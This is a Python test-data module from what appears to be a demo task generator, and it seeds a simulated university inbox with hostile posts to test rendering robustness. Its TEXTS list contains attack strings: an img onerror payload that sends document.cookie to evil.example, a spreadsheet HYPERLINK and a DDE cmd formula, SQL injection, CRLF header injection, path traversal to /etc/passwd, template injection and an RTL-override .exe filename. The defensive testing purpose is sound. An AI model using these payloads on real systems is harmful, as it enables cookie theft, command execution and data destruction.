"""Texts that try to break whatever shows them. The last week has each of them once."""

from __future__ import annotations

from datetime import date

from tasks.demo import season
from tasks.demo.item import Item
from tasks.demo.studio import PUBLIC_SOURCES, Studio

#: (name, language, text). Built from escapes, so that this file itself is harmless to read.
TEXTS = (
    ("script", "en", "my bio on the student portal says <script>alert('grades')</script> lol, hello from 2009"),
    ("image", "nl", 'Profielfoto uploaden gaat niet: <img src=x onerror="fetch(\'https://evil.example/\'+document.cookie)"> 🤷'),
    ("markup", "nl", "</td></tr></table><h1>GRATIS KOFFIE</h1><!-- grapje van de hbo-ict'ers -->"),
    ("template", "en", "who else gets mails starting with “Dear {{ student.first_name }}” {% for x in range(99) %}{{ x }}{% endfor %}"),
    ("formula", "nl", '=HYPERLINK("https://evil.example/?x="&A1;"Klik hier voor je rooster")'),
    ("formula_plus", "en", "+1+cmd|' /C calc'!A0 was what my group mate handed in as spreadsheet, 10/10"),
    ("override", "nl", "Mooie bestandsnaam bij de opdracht: verslag\u202efdp.exe\u202c, niet openen dus"),
    ("arabic", "ar", "السلام عليكم، هل توجد منح دراسية للطلاب الدوليين في Hogeschool Overbrugge؟ شكرا"),
    ("zero_width", "nl", "Over\u200bbrug\u200dge is zo\u2060 leeg op vrij\u200cdag\ufeff, heerlijk"),
    ("zalgo", "en", "m" + "\u0335\u0321\u0353\u034d" * 6 + "o" + "\u0338\u0322\u0316" * 9 + "n" + "\u0334\u030a\u0352" * 8 + "day lecture"),
    ("families", "nl", "Open huis met het hele gezin 👨\u200d👩\u200d👧\u200d👦👩🏽\u200d🦽🏳️\u200d🌈🇳🇱🇸🇷🇲🇦 gezellig was het!"),
    ("control", "en", "copied from the beamer:\u0007 slide 3\u000b of 12\u001b[31m red\u001b[0m text, thanks"),
    ("header", "nl", "Re: afspraak\r\nBcc: iedereen@overbrugge.example\r\n\r\nstond er letterlijk in mijn mailtje haha"),
    ("quotes", "nl", "Robert'); DROP TABLE studenten;-- is mijn nieuwe wifi-naam op kamers"),
    ("path", "en", "my group called its shared folder ../../etc/passwd and now nobody finds it"),
)  # fmt: skip
LONG_SIZE = 10_000


def hostile(studio: Studio, monday: date) -> None:
    """All of them in the last week; one or two in any other."""
    texts = [(language, text) for _, language, text in TEXTS] + [("nl", _long(studio))]
    if monday.isocalendar().week != season.LAST_WEEK:
        texts = studio.chance.shuffled(texts)[: studio.chance.between(1, 2)]
    for language, text in texts:
        _posted(studio, monday, text, language)


def _posted(studio: Studio, monday: date, text: str, language: str) -> Item:
    source = "reddit" if len(text) == LONG_SIZE else studio.chance.pick(PUBLIC_SOURCES)
    item = studio.ask(source, studio.some_time(monday), text, language)
    item.needs_reply, item.settled = False, True
    return item


def _long(studio: Studio) -> str:
    """A post of exactly 10,000 characters: somebody shares a whole afternoon."""
    parts = [studio.dealer.filled(text) for text in studio.dealer.shuffled_words("talk", "nl_long")]
    text = "Lang verhaal, sorry. " + " ".join(parts)
    while len(text) < LONG_SIZE:
        text += " " + " ".join(studio.dealer.filled(part) for part in parts)
    return text[: LONG_SIZE - 1] + "."
